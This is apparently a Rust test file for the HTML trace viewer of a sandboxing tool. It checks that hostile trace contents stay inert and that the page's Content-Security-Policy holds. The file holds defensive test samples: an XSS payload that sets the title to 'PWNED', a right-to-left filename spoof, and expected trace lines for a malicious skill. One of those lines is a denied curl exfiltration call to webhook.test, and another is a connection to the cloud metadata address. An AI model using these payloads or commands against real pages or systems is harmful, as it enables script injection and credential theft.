//! The page of a trace: what is in it, and what a browser makes of it.
// A test may fail by panicking.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use std::path::PathBuf;

use skillsandbox_test_support::browser::{Browser, Shown};
use skillsandbox_test_support::stories;
use skillsandbox_tracer::Trace;
use skillsandbox_tracer::render::html;

fn page(trace: &Trace) -> String {
    let mut out = Vec::new();
    html::write_page(&mut out, trace).unwrap();
    String::from_utf8(out).unwrap()
}

/// A folder of its own, and the page in it.
fn written(text: &str) -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("trace.html");
    std::fs::write(&file, text).unwrap();
    (folder, file)
}

fn title(shown: &Shown) -> &str {
    shown.dom.split_once("<title>").unwrap().1.split_once("</title>").unwrap().0
}

/// What the script made, without what the page came with.
fn made(shown: &Shown) -> &str {
    shown.dom.split_once("<script type=\"application/json\"").unwrap().0
}

#[test]
fn the_data_cannot_end_its_block_and_comes_back_whole() {
    let trace = stories::hostile();
    let text = page(&trace);
    assert_eq!(text.matches("</script").count(), 2);
    assert_eq!(text.matches("<script").count(), 2);
    assert!(!text.contains("<!--") && !text.contains('\u{2028}') && !text.contains('\u{202e}'));
    let data = text.split_once("id=\"data\">").unwrap().1.split_once("</script>").unwrap().0;
    assert!(!data.contains(['<', '>', '&']));
    assert_eq!(serde_json::from_str::<Trace>(data).unwrap(), trace);
}

#[test]
fn the_policy_allows_its_own_script_and_style_and_nothing_else() {
    use base64::Engine as _;
    use sha2::Digest as _;
    let text = page(&stories::weather());
    let policy =
        text.split_once("Content-Security-Policy\" content=\"").unwrap().1.split_once('"').unwrap().0;
    assert!(policy.starts_with("default-src 'none'; "), "{policy}");
    assert!(!policy.contains("unsafe") && !policy.contains('*') && !policy.contains("http"), "{policy}");
    let hash = |text: &str| {
        let digest = sha2::Sha256::digest(text.as_bytes());
        format!("'sha256-{}'", base64::engine::general_purpose::STANDARD.encode(digest))
    };
    let script = text.split_once("<script>").unwrap().1.split_once("</script>").unwrap().0;
    let style = text.split_once("<style>").unwrap().1.split_once("</style>").unwrap().0;
    assert!(policy.contains(&format!("script-src {};", hash(script))), "{policy}");
    assert!(policy.contains(&format!("style-src {};", hash(style))), "{policy}");
    // Nothing is said before the policy that it would have had to allow.
    assert!(text.find("Content-Security-Policy").unwrap() < text.find("<style>").unwrap());
}

#[test]
fn no_text_of_a_trace_becomes_a_script_or_an_element() {
    let Some(browser) = Browser::find() else { return };
    let (_folder, file) = written(&page(&stories::hostile()));
    for place in ["", "#event=2", "#event=7", "#text=onerror", "#kind=%3Cimg%20src=x%3E&class=__proto__"] {
        let shown = browser.open(&file, place);
        assert_eq!(title(&shown), "SkillSandbox trace", "{place}");
        assert!(
            shown.dom.contains("data-ready=\"240\""),
            "{place}: the script did not end\n{:?}",
            shown.console
        );
        assert_eq!(shown.console, [""; 0], "{place}");
        for tag in ["<img", "<svg", "<x ", "<script>d", "<!--"] {
            assert!(!made(&shown).contains(tag), "{place}: {tag}");
        }
    }
    let shown = browser.open(&file, "");
    // It is all there to be read.
    assert!(made(&shown).contains("&lt;svg/onload=document.title=`PWNED`&gt;"));
    assert!(made(&shown).contains("invoice\\u{202e}fdp.exe\\u{2066}\\u{2069}"));
    assert!(made(&shown).contains("zero\\u{200b}width\\u{feff}\\u{e0041}\\u{e0042}"));
}

/// The control: what the test before looks for is seen where it happens, and each of the page's two walls holds alone.
#[test]
fn the_browser_would_have_run_it() {
    let Some(browser) = Browser::find() else { return };
    let safe = page(&stories::weather());
    let attack = "<script>document.title=`PWNED`</script><img src=x onerror='document.title=`PWNED`'>";
    let broken = safe.replace("</main>", &format!("</main>{attack}"));
    // With the policy: nothing runs, and the console says so.
    let (_folder, file) = written(&broken);
    let shown = browser.open(&file, "");
    assert_eq!(title(&shown), "SkillSandbox trace");
    assert!(shown.console.iter().any(|line| line.contains("Content Security Policy")), "{:?}", shown.console);
    // Without it: it does.
    let start = broken.find("<meta http-equiv").unwrap();
    let end = start + broken[start..].find('\n').unwrap();
    let (_folder, file) = written(&format!("{}{}", &broken[..start], &broken[end..]));
    assert_eq!(title(&browser.open(&file, "")), "PWNED");
}

#[test]
fn a_page_shows_what_happened() {
    let Some(browser) = Browser::find() else { return };
    let (folder, file) = written(&page(&stories::malicious_weather()));
    let shown = browser.open(&file, "");
    for text in [
        "7 findings, severity critical: no attempt that proves it took effect",
        "weather-lookup-malicious",
        "https://attack.mitre.org/techniques/T1552/001/",
        "/usr/bin/python3.12 (41872)",
        "exec denied: /usr/bin/curl -s https://webhook.test/dWlkPTA=",
        "169.254.169.254:80 tcp",
        "27 of 27 events",
    ] {
        assert!(made(&shown).contains(text), "{text}\n{}", made(&shown));
    }
    let denied = browser.open(&file, "#verdict=denied&text=ssh");
    assert!(made(&denied).contains("2 of 27 events"), "{}", made(&denied));
    let one = browser.open(&file, "#event=18");
    assert!(made(&one).contains("#18 connect denied") && made(&one).contains("\"kind\": \"net_connect\""));
    let benign = written(&page(&stories::weather()));
    let benign = browser.open(&benign.1, "");
    assert!(made(&benign).contains("Nothing was denied, and nothing looks like an attack"));
    // One that says less than its events do is not believed.
    let mut edited = stories::malicious_weather();
    edited.violation_summary.denied = 0;
    edited.violation_summary.classifications.clear();
    let edited = written(&page(&edited));
    let edited = browser.open(&edited.1, "");
    assert!(
        made(&edited).contains("Doubtful: the summary is not what its events add up to"),
        "{}",
        made(&edited)
    );
    for honest in [&shown, &benign] {
        assert!(!made(honest).contains("Doubtful"));
    }
    let picture = std::fs::read(browser.picture(&file, &folder.path().join("page.png"))).unwrap();
    assert!(picture.starts_with(b"\x89PNG"));
}

#[test]
fn a_hundred_thousand_events_make_few_elements() {
    let Some(browser) = Browser::find() else { return };
    let (_folder, file) = written(&page(&stories::many(100_000)));
    for (place, count) in [("#text=id_rsa", "100 of 100000 events"), ("#event=77002", "#77002")] {
        let shown = browser.open(&file, place);
        assert!(shown.dom.contains("data-ready=\"100000\""), "{place}: {:?}", shown.console);
        assert_eq!(shown.console, [""; 0]);
        assert!(made(&shown).contains(count), "{place}");
        let is_picked =
            made(&shown).contains("class=\"row picked\" role=\"option\"><span class=\"soft\">#77002<");
        assert_eq!(is_picked, place == "#event=77002", "{place}");
        let rows = made(&shown).matches("class=\"row").count();
        assert!((1..=60).contains(&rows), "{place}: {rows}");
        let elements = made(&shown).matches('<').count();
        assert!(elements < 8_000, "{place}: {elements}");
    }
}
